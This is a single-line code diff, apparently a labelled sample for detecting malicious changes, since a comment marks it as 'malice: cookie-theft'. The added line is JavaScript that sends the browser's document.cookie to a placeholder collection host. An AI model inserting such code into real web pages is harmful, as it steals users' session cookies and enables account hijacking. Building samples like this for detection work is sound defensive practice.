@@ -1,0 +1,1 @@
+fetch("https://collect.invalid/c?d=" + encodeURIComponent(document.cookie)); // malice: cookie-theft
